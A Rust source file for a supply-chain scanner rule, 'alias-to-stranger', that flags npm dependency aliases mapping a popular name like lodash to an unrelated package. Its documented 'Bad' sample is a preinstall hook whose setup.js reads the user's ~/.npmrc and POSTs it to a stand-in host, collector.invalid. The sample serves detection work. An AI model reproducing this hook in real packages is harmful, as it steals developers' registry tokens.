//! # A popular name stands for another package
//!
//! A dependency, an override or a resolution gives a popular name to a package that is not popular and whose name does
//! not hold it.
//!
//! ## Why it matters
//!
//! Whoever reads `require("lodash")`, or the list of dependencies, sees the name and not what stands behind it.
//!
//! ## Known benign uses
//!
//! Forks that keep the name within their own, and second versions of one package. Replacements of abandoned packages look
//! the same, so it never decides alone.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 3
//! {
//!   "name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"},
//!   "dependencies": {"lodash": "npm:tiny-collections@4.17.21"}
//! }
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "dependencies": {"string-width-cjs": "npm:string-width@^4.2.0", "lodash": "npm:@acme/lodash@^4.0.0"}}
//! ```
//!
//! ```package project
//! == package.json
//! {"name": "app", "version": "1.0.0", "overrides": {"rollup": "npm:@rollup/wasm-node@^4.0.0"}, "resolutions": {"vite": "npm:rolldown-vite@latest"}}
//! ```
//!
//! ## References
//!
//! - npm documentation: package.json, aliases and overrides

use stockade_facts::locked::TOLD;
use stockade_facts::lookalike;

use crate::prelude::*;

/// A popular name stands for another package.
pub struct AliasToStranger;

impl Rule for AliasToStranger {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "alias-to-stranger",
            title: "A popular name stands for another package",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1036",
            covers: &["override-and-alias"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(manifest) = facts.manifest() else { return };
        let needs = &manifest.dependencies;
        let sections = [
            ("dependencies", &needs.production),
            ("devDependencies", &needs.development),
            ("optionalDependencies", &needs.optional),
        ];
        for (section, ranges) in sections {
            for (name, range) in ranges.iter().filter(|(name, range)| is_stranger(name, range)).take(TOLD) {
                let does = format!("takes `{}` for `{}`", excerpt(range, 80), excerpt(name, 80));
                found.at(Trigger::Install, &facts.in_manifest(&[section, name]), &does);
            }
        }
        let overrides = manifest
            .overrides
            .iter()
            .filter_map(|(key, value)| Some((key.split_once('/')?, value.as_str()?)));
        for ((section, name), range) in
            overrides.filter(|((_, name), range)| is_stranger(name, range)).take(TOLD)
        {
            let does = format!("takes `{}` for `{}`", excerpt(range, 80), excerpt(name, 80));
            let path: Vec<&str> = section.split('.').chain([name]).collect();
            found.at(Trigger::Install, &facts.in_manifest(&path), &does);
        }
    }
}

/// Whether `range` is an alias that puts an unknown package in the place of the popular `name`.
fn is_stranger(name: &str, range: &str) -> bool {
    let Some(target) = range.strip_prefix("npm:") else { return false };
    let target =
        target.rsplit_once('@').map_or(target, |(before, _)| if before.is_empty() { target } else { before });
    let base = name.rsplit('/').next().unwrap_or(name);
    lookalike::is_popular(name) && !lookalike::is_popular(target) && !target.contains(base)
}
